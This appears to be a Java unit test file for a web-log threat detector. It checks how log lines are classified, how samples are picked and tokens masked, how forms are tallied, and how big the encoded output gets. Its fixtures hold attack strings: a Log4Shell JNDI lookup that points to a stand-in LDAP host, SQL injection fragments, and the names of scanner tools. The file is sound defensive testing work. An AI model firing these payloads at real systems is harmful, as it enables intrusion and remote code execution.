package io.weir.window;

import static org.assertj.core.api.Assertions.assertThat;

import io.weir.threat.ThreatClass;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

class ThreatBoardTest {
  private static final String LOOKUP = "/?x=${jndi:ldap://192.0.2.1:1389/a}";

  private static String line(int second, String client, int status, String target, String agent) {
    return "https 2026-03-01T12:01:"
        + (10 + second % 50)
        + ".250000Z app/shop/0123456789abcdef "
        + client
        + ":40112 10.1.2.3:8080 0.001 0.100 0.000 "
        + (status + " " + status)
        + " 312 48000 \"GET https://shop.example:443"
        + target
        + " HTTP/2.0\" \""
        + agent
        + "\" X TLSv1.3 - \"-\" \"-\" \"-\" 1 2026-03-01T12:00:00.000000Z \"forward\" \"-\" \"-\""
        + " \"-\" \"-\" \"-\" \"-\"";
  }

  private static Window window(String... lines) {
    return WindowCodecTest.parts("a", String.join("\n", lines) + "\n").get(0).window();
  }

  @Test
  void requestThatHitsSeveralClasses_isOneRequest() {
    Window window = window(line(1, "203.0.113.9", 404, LOOKUP, "Nuclei - Open-source project"));
    assertThat(window.threats()).hasSizeGreaterThan(1);
    assertThat(window.threats().stream().mapToLong(ThreatTally::requests).sum()).isEqualTo(1);
    assertThat(window.threats()).allSatisfy(tally -> assertThat(tally.hits()).isEqualTo(1));
  }

  @Test
  void requestOfAToolWithAPayload_isToldByThePayload() {
    Window window = window(line(1, "203.0.113.9", 404, LOOKUP, "sqlmap/1.7"));
    assertThat(window.threats())
        .filteredOn(tally -> tally.requests() > 0)
        .extracting(ThreatTally::threatClass)
        .doesNotContain(ThreatClass.SCANNER)
        .hasSize(1);
  }

  @Test
  void samples_areThoseThatMayHaveSucceededFirst() {
    String[] lines =
        IntStream.range(0, 8)
            .mapToObj(
                i ->
                    line(
                        i,
                        "203.0.113.9",
                        i == 5 ? 200 : 404,
                        "/a?id=7'%20union%20select%20" + i + "--&token=abc123",
                        "Mozilla/5.0"))
            .toArray(String[]::new);
    ThreatTally tally = window(lines).threats().get(0);
    assertThat(tally.requests()).isEqualTo(8);
    assertThat(tally.succeeded()).isEqualTo(1);
    assertThat(tally.samples()).hasSize(3);
    assertThat(tally.samples().get(0).target()).contains("select%205").contains("token=***");
    assertThat(tally.samples().get(1).target()).contains("select%200");
  }

  @Test
  void form_countsClientsAndGoodAnswers() {
    String[] lines =
        IntStream.range(0, 40)
            .mapToObj(
                i ->
                    line(
                        i,
                        "203.0.113." + i % 20,
                        i < 30 ? 200 : 404,
                        "/item/" + i + "?id=7'%20union%20select%201--",
                        "Mozilla/5.0"))
            .toArray(String[]::new);
    Window window = window(lines);
    List<FormTally> forms = window.threatForms();
    assertThat(forms).hasSize(1);
    assertThat(forms.get(0).path()).isEqualTo("/item/*");
    assertThat(forms.get(0).requests()).isEqualTo(40);
    assertThat(forms.get(0).answeredWell()).isEqualTo(30);
    assertThat(Math.round(forms.get(0).clients())).isEqualTo(20);
    assertThat(
            window.threats().stream()
                .collect(
                    Collectors.summingLong(t -> t.onForm(java.util.Set.of(forms.get(0).id())))))
        .isEqualTo(40);
  }

  @Test
  void partOfManyAttackers_isUnderTheLimit() {
    String[] lines =
        IntStream.range(0, 5000)
            .mapToObj(
                i ->
                    line(
                        i % 60,
                        "203.0." + i / 250 + "." + i % 250,
                        200,
                        "/"
                            + Integer.toHexString(i * 7919)
                            + "/x"
                            + i
                            + "?id="
                            + Long.toString(i * 104_729_000_003L, 36).repeat(20)
                            + "'%20union%20select%20"
                            + i
                            + "--",
                        "Mozilla/5.0 " + i))
            .toArray(String[]::new);
    assertThat(WindowCodec.encode(window(lines)).length).isLessThan(32 << 10);
  }
}
